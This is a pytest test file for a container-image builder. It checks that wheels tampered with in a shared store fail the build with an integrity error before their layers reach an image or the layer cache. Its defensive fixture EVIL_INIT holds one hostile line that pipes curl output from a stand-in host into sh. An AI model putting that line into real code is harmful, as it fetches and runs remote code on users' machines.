"""An image is built only from wheels whose bytes are the lock's.

The store checks an artifact when it takes it, but it is a folder on a shared volume:
its files can change afterwards. A changed wheel must fail the build as an integrity
error (exit 4) before its layer is built, so it never reaches an image or the layer
cache, whose entries are keyed by the lock's hash and would outlive the store's repair.
Each kind of change is a fixture of its own, made here from a real wheel.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
import tomli_w

from envship._toml import load_toml
from envship.cli.main import main
from envship.errors import ArtifactError
from envship.imagebase import BaseFacts, probe_image
from envship.lockfile import LockFile
from envship.ocilayout import OciLayout
from envship.store import Store
from imagelib import BaseImage
from indexlib import build_wheel
from test_image import (
    PLATFORM,
    VENV_SITE,
    Setup,
    _no_source_date_epoch,
    build,
    layer_files,
    layout_image,
    leftovers,
    make_setup,
    seed_probe_cache,
    slim_layout,
)

__all__ = ["_no_source_date_epoch", "slim_layout"]

GOOD_INIT = b'__version__ = "1.0"\n'
EVIL_INIT = b'import os; os.system("curl evil | sh")\n'


def edited_and_rehashed(good: Path, folder: Path) -> bytes:
    """beta 1.0 with other code and a RECORD that matches it: a valid wheel, not the lock's."""
    wheel = build_wheel(folder, "beta", "1.0", files={"beta/__init__.py": EVIL_INIT.decode()})
    assert wheel.name == good.name
    return wheel.read_bytes()


def one_byte_flipped(good: Path, folder: Path) -> bytes:
    data = bytearray(good.read_bytes())
    data[len(data) // 2] ^= 0xFF  # same size: only a hash tells
    return bytes(data)


def truncated(good: Path, folder: Path) -> bytes:
    return good.read_bytes()[:-64]


Tamper = Callable[[Path, Path], bytes]
TAMPERS = [
    pytest.param(edited_and_rehashed, id="edited-and-rehashed"),
    pytest.param(one_byte_flipped, id="one-byte-flipped"),
    pytest.param(truncated, id="truncated"),
]


def damage(setup: Setup, tamper: Tamper, folder: Path) -> tuple[str, bytes]:
    """Change beta's store file in place (its named link is the same file); returns the
    lock's sha256 and the bytes now there."""
    good = setup.wheels["beta"]
    sha = hashlib.sha256(good.read_bytes()).hexdigest()
    data = tamper(good, folder)
    path = setup.store.path(sha)
    path.chmod(0o644)
    path.write_bytes(data)
    return sha, data


def cached_distributions(store: Store) -> list[str]:
    """What the layers in the store's layer cache hold, as their annotations say."""
    held = []
    for record in (store.root / "layers").glob("*.json"):
        annotations = json.loads(record.read_text())["descriptor"].get("annotations") or {}
        held += annotations.get("org.envship.distributions", "").split()
    return sorted(held)


def rewrite_lock(setup: Setup, *, sizes: bool = False, local: bool = False) -> Setup:
    """The setup with its lock recording each wheel's size (PEP 751 ``size``), or pointing
    at the wheels beside it, so `envship fetch` gets them again offline (a ``path``
    entry, relative to the lock)."""
    data = load_toml(setup.lock.path)
    files = {wheel.name: wheel for wheel in setup.wheels.values()}
    for package in data["packages"]:
        for wheel in package["wheels"]:
            name = wheel["url"].rsplit("/", 1)[1]
            if sizes:
                wheel["size"] = files[name].stat().st_size
            if local:
                del wheel["url"]
                wheel["path"] = f"dist/{name}"
    setup.lock.path.write_text(tomli_w.dumps(data), encoding="utf-8")
    return replace(setup, lock=LockFile.load(setup.lock.path))


@pytest.fixture(scope="module")
def slim_facts(slim_layout: BaseImage) -> BaseFacts:
    return probe_image(layout_image(slim_layout), where="slim")


@pytest.mark.parametrize("jobs", [1, 2], ids=["inline", "process-pool"])
@pytest.mark.parametrize("tamper", TAMPERS)
def test_a_store_wheel_that_is_not_the_locks_fails_before_its_layer_is_cached(
    tmp_path: Path, slim_layout: BaseImage, slim_facts: BaseFacts, tamper: Tamper, jobs: int
) -> None:
    setup = rewrite_lock(make_setup(tmp_path), sizes=True)
    sha, data = damage(setup, tamper, tmp_path / "tampered")
    beta = setup.wheels["beta"].name
    with pytest.raises(ArtifactError) as caught:
        build(setup, slim_layout, slim_facts, jobs=jobs)
    error = caught.value
    assert (error.exit_code, error.kind) == (4, "integrity")
    assert error.message == f"{beta}: the store's copy does not match the lock, refusing it"
    assert (error.artifact, error.expected) == (beta, sha)
    assert error.actual == hashlib.sha256(data).hexdigest() != sha
    assert error.hint == (
        f"`envship fetch --verify --lock {setup.lock.path} --target {PLATFORM} "
        f"--store {setup.store.root}` replaces it"
    )
    said = [p.message for p in error.problems]
    assert said[0] == f"sha256 {error.actual}, the lock says {sha}"
    size = setup.wheels["beta"].stat().st_size
    assert said[1:] == ([f"{len(data)} bytes, the lock says {size}"] if len(data) != size else [])
    # The other layers were built and cached; beta's was not.
    assert "beta==1.0" not in cached_distributions(setup.store)
    assert "alpha==1.0" in cached_distributions(setup.store)
    assert leftovers(setup.store) == []


def test_cli_refuses_it_writes_nothing_and_after_repair_builds_the_good_layer(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    slim_layout: BaseImage,
    slim_facts: BaseFacts,
) -> None:
    setup = rewrite_lock(make_setup(tmp_path), local=True)
    seed_probe_cache(setup.store, slim_layout, slim_facts)
    sha, data = damage(setup, edited_and_rehashed, tmp_path / "tampered")
    lock, store = str(setup.lock.path), str(setup.store.root)
    outputs = ["-o", f"oci:{tmp_path / 'out'}:v1", "-o", f"docker-archive:{tmp_path / 'x.tar'}"]
    args = ["image", "build", "--lock", lock, "--store", store, "--base", slim_layout.ref]

    assert main([*args, *outputs, "--json"]) == 4
    doc = json.loads(capsys.readouterr().out)
    assert doc["error"] == "integrity" and doc["artifact"] == setup.wheels["beta"].name
    assert (doc["expected"], doc["actual"]) == (sha, hashlib.sha256(data).hexdigest())
    assert doc["hint"] == (
        f"`envship fetch --verify --lock {lock} --target {PLATFORM} --store {store}` replaces it"
    )
    assert not (tmp_path / "out").exists() and not (tmp_path / "x.tar").exists()

    assert main(["fetch", "--verify", "--lock", lock, "--store", store]) == 0
    capsys.readouterr()
    assert setup.store.check(sha, full=True) == "ok"

    assert main([*args, *outputs, "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    (layer,) = [layer for layer in doc["layers"] if "beta==1.0" in layer["distributions"]]
    assert layer["cached"] is False  # built now, from the repaired file
    blob = OciLayout.open(tmp_path / "out").blob_path(layer["digest"])
    assert layer_files(blob)[f"{VENV_SITE}/beta/__init__.py"] == GOOD_INIT


@pytest.mark.parametrize("sizes", [False, True], ids=["no-sizes", "sizes"])
def test_the_locks_own_bytes_pass_the_check(
    tmp_path: Path, slim_layout: BaseImage, slim_facts: BaseFacts, sizes: bool
) -> None:
    """The control case: an intact store, with and without sizes in the lock, builds."""
    setup = rewrite_lock(make_setup(tmp_path), sizes=sizes)
    assert all((a.size is not None) == sizes for a in setup.lock.artifacts())
    built, _ = build(setup, slim_layout, slim_facts)
    held = [d for layer in built.layers for d in layer.distributions]
    assert sorted(held) == ["alpha==1.0", "beta==1.0", "tool==1.0"]
